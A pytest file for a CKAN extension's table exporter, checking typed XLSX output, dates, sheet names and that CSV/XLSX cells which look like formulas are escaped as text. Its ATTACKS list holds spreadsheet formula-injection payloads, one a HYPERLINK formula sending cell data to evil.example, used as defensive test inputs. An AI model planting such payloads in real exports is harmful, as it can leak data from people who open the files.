"""The one table writer: typed XLSX, and no formula survives into a CSV or XLSX (OWASP)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from ckanext.lutsk_charter.monitoring.exports import (
    is_formula_like,
    restore_text,
    safe_text,
    sheet_name,
    table_bytes,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Натисніть")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_csv_cell_that_would_be_a_formula_is_text_and_readable(attack):
    content = table_bytes(["Назва", "Число"], [[attack, -5]], "csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0] == ["Назва", "Число"]
    cell = rows[1][0]
    assert cell == "'" + attack  # the apostrophe a spreadsheet hides; the text stays readable
    assert not is_formula_like(cell)
    assert restore_text(cell) == attack
    assert rows[1][1] == "-5"  # a real number is not text to neutralise


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_xlsx_cell_that_would_be_a_formula_is_a_text_cell(attack):
    workbook = load_workbook(io.BytesIO(table_bytes(["Назва"], [[attack]], "xlsx", "Реєстр")))
    cell = workbook["Реєстр"]["A2"]
    assert cell.data_type == "s"
    assert cell.value == attack  # exactly as written, shown as text
    assert cell.quotePrefix is True
    formulas = load_workbook(
        io.BytesIO(table_bytes(["Назва"], [[attack]], "xlsx")), data_only=False
    )
    assert formulas.active["A2"].data_type != "f"


def test_xlsx_has_types_widths_a_named_sheet_and_a_frozen_header():
    day = dt.date(2026, 12, 1)
    when = dt.datetime(2026, 12, 1, 9, 36)
    content = table_bytes(
        ["Орган", "Прострочено", "Частка", "Дата", "Час"],
        [["Департамент освіти і науки Луцької міської ради", 3, 0.5, day, when]],
        "xlsx",
        "Органи",
    )
    sheet = load_workbook(io.BytesIO(content))["Органи"]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert sheet["B2"].value == 3
    assert sheet["B2"].data_type == "n"
    assert sheet["C2"].value == 0.5
    assert sheet["D2"].is_date
    assert sheet["D2"].value.date() == day
    assert sheet["D2"].number_format == "DD.MM.YYYY"
    assert sheet["E2"].is_date
    assert sheet["E2"].value == when
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["B"].width >= 8
    assert sheet.column_dimensions["A"].width <= 60


def test_csv_writes_dates_as_iso_and_empty_for_none():
    content = table_bytes(["a", "b", "c"], [[dt.date(2026, 12, 1), None, "текст"]], "csv")
    assert content.startswith("\ufeff".encode())
    assert content.decode("utf-8-sig").splitlines()[1] == "2026-12-01,,текст"


def test_helpers_for_names_and_round_trips():
    assert sheet_name("a/b:c*d?[e]" + "x" * 40) == ("a-b-c-d--e-" + "x" * 40)[:31]
    assert sheet_name("") == "Sheet1"
    assert safe_text("звичайний текст") == "звичайний текст"
    assert restore_text("'не формула") == "'не формула"  # an apostrophe of its own stays
